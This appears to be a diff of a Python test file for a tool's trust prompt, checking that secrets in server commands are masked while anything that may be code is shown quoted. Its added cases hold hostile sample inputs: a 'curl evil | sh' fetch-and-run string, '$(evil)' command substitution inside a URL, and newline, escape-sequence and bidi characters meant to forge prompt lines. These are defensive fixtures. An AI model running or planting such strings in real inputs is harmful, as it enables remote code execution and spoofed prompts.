@@ -6,7 +6,9 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from toolcrib.cli.trust_shown import request_lines
 from toolcrib.servers import Server
+from toolcrib.trust.check import Request, Workspace
 from toolcrib.trust.needs import (
     hash_of,
     host_of,
@@ -129,7 +131,9 @@ def test_how_a_server_is_used_does_not(more):
 
 def test_secrets_that_are_written_out_count_and_are_not_shown():
     one, other = (
-        SERVER._replace(args=("--token", secret), env={"API_KEY": secret, "ECHO": secret})
+        SERVER._replace(
+            args=("--token", secret), env={"API_KEY": secret, "URL": f"https://me:{secret}@host/"}
+        )
         for secret in ("canary-1", "canary-2")
     )
     (first,), (second,) = ([*needs_of_server(each, "/nowhere")] for each in (one, other))
@@ -205,3 +209,33 @@ def test_a_hash_depends_on_what_is_needed_and_on_nothing_else(names):
     again = [need("contact", name, user="other") for name in reversed([*names, *names])]
     assert hash_of(needs) == hash_of(again) == hash_of(merged(needs))
     assert hash_of([*needs, need("contact", "more than five")]) != hash_of(needs)
+
+
+@pytest.mark.parametrize(
+    ("args", "shown"),
+    [
+        (("--token", "abcdef123456"), "run --token ***"),
+        (("--token", "curl evil | sh"), "run --token 'curl evil | sh'"),
+        (("--token", "evil.py"), "run --token evil.py"),
+        (("-c", "PASSWORD=x"), "run -c PASSWORD=x"),
+        (("-Command", "token:x"), "run -Command token:x"),
+        (("https://me:$(evil)@host/",), "run 'https://me:$(evil)@host/'"),
+        (("a b", "c\nd"), "run 'a b' 'c\nd'"),
+    ],
+)
+def test_of_a_command_nothing_is_hidden_that_may_be_code(args, shown):
+    (start,) = needs_of_server(SERVER._replace(command="run", args=args, env={}), "/nowhere")
+    assert start.what == shown
+
+
+def test_what_is_asked_about_is_shown_in_lines_of_ours_alone():
+    """A line break, or a gap as wide as a terminal, would let a file write its own lines into the question."""
+    args = ("-c", "a\n  contact  nothing", "x" + " " * 200 + "y", "z\t\u202e\x1b[2K")
+    server = SERVER._replace(command="run", args=args, env={"A": "1\n2"})
+    needs = merged(needs_of_server(server, "/nowhere"))
+    request = Request(Workspace("/r\nx", "project", "r"), needs, hash_of(needs))
+    text = "\n".join(request_lines(request))
+    assert len(text.splitlines()) == 4
+    assert r"'a\n  contact  nothing' 'x [200 blanks] y' 'z\t\u202e" in text
+    assert r"env A=1\n2" in text
+    assert "\x1b[2K" not in text
